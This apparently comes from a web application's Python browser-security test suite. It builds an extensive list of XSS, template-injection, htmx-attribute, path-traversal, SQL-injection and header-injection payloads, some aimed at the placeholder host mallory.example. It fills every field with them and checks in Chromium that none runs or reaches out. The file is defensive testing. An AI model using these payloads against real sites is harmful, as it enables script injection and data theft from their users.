"""T17: what a device or a person writes is shown, never run.

Every payload is put into every field that a device or a person can fill; a browser opens every page; nothing may run,
load, or break the policy. The payloads are made here, from what starts a script in HTML, in attributes, in SVG, in
URLs, in templates and in the attributes that htmx reads.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import msgspec
import pytest

from fleet import events as facts
from fleet.node import Difference, Endpoint
from tests.web.browser import assert_clean, chromium, needs_chromium, page_of, sign_in
from tests.web.conftest import Server, served  # noqa: F401 - the fixture
from tests.web.island import NOW_NS, PASSWORD, Island
from web.ports import Attention, QuarantineItem, RecordView, Severity, SourceView, Value

pytestmark = [pytest.mark.trial, pytest.mark.browser, needs_chromium, pytest.mark.xdist_group("browser")]

RUN = "window.__ran=1"
AWAY = "//mallory.example/"
TAGS = [
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "iframe",
    "marquee",
    "object data=x",
]
ACTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerover", "onanimationstart"]
BREAKS = ("", '"', "'", "`", "-->", "]]>", "</title>", "</script>", "</textarea>", "</pre>", "</svg>", "</select>")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "data:text/html,<script>", "vbscript:")


def payloads() -> list[str]:
    starts = zip(itertools.cycle(BREAKS), itertools.product(TAGS, ACTS), strict=False)
    made = [f"{out}<{tag} {act}={RUN}>" for out, (tag, act) in starts]
    made += [f"{out}><script>{RUN}</script>" for out in BREAKS]
    made += [f"x{end} {act}={end}{RUN}{end} x={end}" for end in ('"', "'", "`", "") for act in ACTS]
    made += [f'"{gap}{act}={RUN}{gap}x="' for gap in ("/", "\t", "\x0c") for act in ACTS]
    made += [f"{scheme}{RUN}" for scheme in SCHEMES]
    made += [f'"><a href="{scheme}{RUN}" autofocus>x</a>' for scheme in SCHEMES]
    made += [
        f'"><div hx-{verb}="{at}" hx-trigger="load">'
        for verb in ("get", "post", "on:load", "vals", "sse:connect")
        for at in (f"javascript:{RUN}", f"js:{RUN}", AWAY)
    ]
    made += [f'"><div data-hx-on:htmx:after:init="{RUN}" hx-trigger="load[{RUN}]">', f"<hx-partial hx-on::load={RUN}>"]
    made += [f"{{{{ {one} }}}}" for one in ("7*7", "config", "''.__class__", "cycler.__init__.__globals__")]
    made += [f"{{% {one} %}}" for one in ("raw", "include 'base.html'", "set x = 1", "endblock")]
    made += [f"${{{RUN}}}", f"#{{{RUN}}}", f"<%= {RUN} %>", f"[[{RUN}]]", "{{constructor.constructor('x')()}}"]
    made += [f'<style>@import "{AWAY}{number}.css"</style>' for number in range(4)]
    made += [f"<link rel={kind} href={AWAY}>" for kind in ("stylesheet", "preload", "prefetch", "manifest")]
    made += [f'<base href="{AWAY}">', f'<meta http-equiv=refresh content="0;url={AWAY}">']
    made += [f'<form action="{AWAY}"><button autofocus>', f'<img src="{AWAY}x.png">', f"<image href={AWAY}>"]
    made += [f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>"]
    made += [f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<svg><script>{RUN}</script></svg>"]
    made += [f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{RUN}>x</a></svg>"]
    made += [f"<template><script>{RUN}</script></template>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>"]
    made += [f"<embed src=javascript:{RUN}>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<ScRiPt>{RUN}</sCrIpT>"]
    made += [chr(code) + f"<img src=x onerror={RUN}>" for code in (0x202E, 0x200B, 0xFEFF, 0x2028, 0x7F, 0x9B, 0xFFFD)]
    made += [f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"]
    made += [f"&lt;script&gt;{RUN}&lt;/script&gt;", f"\\u003cscript\\u003e{RUN}", f"%3Cscript%3E{RUN}%3C/script%3E"]
    made += ["../../etc/passwd", "' OR 1=1 --", "\r\nset-cookie: x=1", "constructor", "__proto__", "x" * 3000]
    return list(dict.fromkeys(made))


PAYLOADS = payloads()


def infect(island: Island, payload: str) -> None:
    """The payload in every field a device or a person can fill. What the box keeps as an id stays an id."""
    replace = msgspec.structs.replace
    row, node = next(iter(island.rows.values())), next(iter(island.nodes_held.values()))
    value = Value(metric=payload, value=3.0, at_ns=NOW_NS, source=payload)
    named: dict[str, Any] = {"name": payload, "tags": (payload, payload)}
    row = replace(
        row, **named, version=payload, address=payload, seen_via=payload, battery=value, rtt=value, loss=value
    )
    inventory = replace(node.actual.inventory, cpu=payload)
    hardware = replace(node.supply_chain.hardware, serial=payload, manufacturer=payload, model=payload)
    node = replace(
        node,
        **named,
        domain_id=payload,
        endpoints=(Endpoint(address=payload, role=payload),),
        desired=replace(node.desired, target_version=payload + "1"),
        actual=replace(node.actual, reported_version=payload, inventory=inventory),
        supply_chain=replace(node.supply_chain, hardware=hardware),
        lifecycle=replace(node.lifecycle, reason=payload),
    )
    island.rows, island.nodes_held, island.texts = {row.id: row}, {row.id: node}, {row.id: payload}
    island.name = payload[:60]
    spoken: dict[str, Any] = dict.fromkeys(("key", "intake", "address", "name", "sample"), payload)
    source = SourceView(**spoken, node_id=None, first_ns=1, last_ns=NOW_NS, records=3)
    island.unclaimed, island.claimed = {payload: source}, {payload: replace(source, node_id=row.id)}
    record = RecordView(id=1, at_ns=NOW_NS, source=payload, text=payload, marks=(payload,), node_id=row.id)
    island.records = [record, replace(record, id=2)]
    bad: dict[str, Any] = dict.fromkeys(("intake", "source", "reason", "text"), payload)
    item = QuarantineItem(**bad, id=1, at_ns=NOW_NS, size=9, times=2)
    island.items = {1: item, 2: replace(item, id=2, settled_ns=NOW_NS, decision=payload)}
    island.log = []
    for kind in facts.KINDS.values():
        island._fact(
            row.id if len(island.log) % 2 else payload,
            kind(*(_filled(kind, name, payload) for name in kind.__struct_fields__)),
        )


def _filled(kind: type[facts.Body], field: str, payload: str) -> object:
    said = kind.__annotations__[field]
    if said == "str":
        return payload
    return b"<b>" if said == "bytes" else (payload,) if said.startswith("tuple") else False if said == "bool" else 5


class Infected(Island):
    """The fields that the island computes by itself, filled too."""

    payload = ""

    async def site(self, who: Any, query: Any) -> Any:
        view = await super().site(who, query)
        lines = (
            Attention(
                severity=Severity.ACT, words=self.payload, since_ns=1, name=self.payload, node_id=next(iter(self.rows))
            ),
        )
        return msgspec.structs.replace(view, site=self.payload, attention=lines, tags=(self.payload,))

    async def node(self, who: Any, node_id: str) -> Any:
        view = await super().node(who, node_id)
        if view is None:
            return None
        value = Value(metric=self.payload, value=3.0, at_ns=NOW_NS, source=self.payload)
        found = (Difference(pointer=self.payload, wanted=self.payload, found=self.payload),)
        return msgspec.structs.replace(view, values=(value,), drift=found, metrics=(self.payload, "rtt_ms"))

    async def intake(self, who: Any) -> Any:
        view = await super().intake(who)
        line = msgspec.structs.replace(
            view.lines[0], intake=self.payload, address=self.payload, refused={self.payload: 3}
        )
        broken = msgspec.structs.replace(line, problem=self.payload)
        return msgspec.structs.replace(view, lines=(line, broken), storage_problem=self.payload)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as started:
        yield started


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 200


@pytest.mark.parametrize("part", range(4))
def test_nothing_that_is_written_ever_runs(browser: Any, part: int, served: Server) -> None:  # noqa: F811
    island: Any = served.island
    island.__class__ = Infected
    with page_of(browser, served.url) as page:
        sign_in(page, served.url, "alice", PASSWORD)
        foreign: list[str] = []
        page.on(
            "request", lambda request: foreign.append(request.url) if not request.url.startswith(served.url) else None
        )
        page.on("dialog", lambda dialog: (foreign.append("dialog"), dialog.dismiss()))
        for payload in PAYLOADS[part::4]:
            island.payload = payload
            infect(island, payload)
            node = f"/nodes/{next(iter(island.rows))}"
            asked = quote(payload[:120], safe="")
            pages = ["/", node, "/intake", "/quarantine", "/quarantine?settled=1", "/journal"]
            pages += [f"/journal?subject={asked}", f"/?text={asked}"]
            for path in pages:
                page.goto(served.url + path, wait_until="load")
                assert page.evaluate("window.__ran") is None, (path, payload)
                assert page.url.startswith(served.url), (path, payload)
            # and as a live part that htmx puts in place
            page.evaluate("htmx.trigger(document.body, 'stale')")
            page.wait_for_timeout(20)
            assert page.evaluate("window.__ran") is None, payload
        assert foreign == []
        assert_clean(page)
